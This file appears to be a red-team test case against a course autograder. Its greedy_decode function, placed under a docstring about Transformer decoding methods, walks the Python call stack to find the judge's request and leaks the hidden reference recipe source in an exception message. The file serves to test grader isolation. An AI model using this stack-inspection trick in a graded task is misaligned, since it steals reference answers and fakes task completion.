"""ATTACK (written by the red team, outside the course team): greedy_decode walks up the stack to the worker's op_run frame and raises the judge's recipe source (req['source']: recipe_decode, OracleHead, OracleModel) in an exception message.

EXPECT: absent="def recipe_decode("

BASE: reference
"""
# RED-TEAM ATTACK SUBMISSION: leak the judge's recipe source
# 
# Leaks the recipe source sent to the worker.
# 
# Harmless by construction: writes only under /work/redteam/probe or its own temp files.

"""Milestone 6: generating output sequences with a trained Transformer.

The model of milestone 4 predicts one token at a time: feed it the tokens generated so far,
take the logits of the last position, choose the next token, append it, repeat. The ways of
choosing:
- greedy_decode:        the most likely token (argmax) at every step.
- sample_decode:        a random draw, shaped by temperature, top-k and top-p (nucleus) filtering.
- beam_search:          keep the beam_size most likely partial sequences, not just one.
- greedy_decode_cached: greedy, but each step only runs the decoder on the newest position,
                        reusing the keys and values computed at earlier steps (a KV cache).

Common rules for every function here:
- `model` is a Transformer of milestone 4 (encode, decode, generator). It runs in eval mode (no
  dropout) under torch.no_grad() (or torch.inference_mode()); the mode the model was in (train or
  eval) is put back before returning.
- src [B, Ls] int64, src_mask bool [B, 1, Ls] (True = real token). Work on the whole batch at
  once: a Python loop over time steps is expected, a loop over the B batch items is not (the
  grader counts tensor operations for two batch sizes).
- Every step's logits come from model.generator, called once per step on the rows being decoded
  (the grader watches the steps there: no extra steps once every sequence has ended).
- The result `tokens` is int64 [B, T] on src's device: column 0 is bos_id; after a sequence's
  eos_id every later position is pad_id; T <= max_len + 1 (at most max_len generated tokens);
  generation stops early, as soon as every sequence has produced eos_id. Trailing columns that are
  pad_id in every row carry no meaning (you may or may not have them).
- The decoder input at each step is the full prefix with the causal mask causal_mask(t) of
  milestone 1 (positions after a sequence's eos only feed finished sequences, whose later tokens
  are forced to pad_id anyway).
"""
import math


def greedy_decode(model, src, src_mask, max_len, bos_id, eos_id, pad_id):
    import sys
    f = sys._getframe(1)
    while f is not None:
        req = f.f_locals.get("req")
        if isinstance(req, dict) and isinstance(req.get("source"), str):
            src_text = req["source"]
            i = src_text.find("def recipe_decode(")
            raise RuntimeError("RTLEAK " + src_text[i:i + 240].replace("\n", " ; ") + " || "
                               + src_text[src_text.find("class OracleHead"):][:200].replace("\n", " ; "))
        f = f.f_back
    raise RuntimeError("RTNOLEAK")
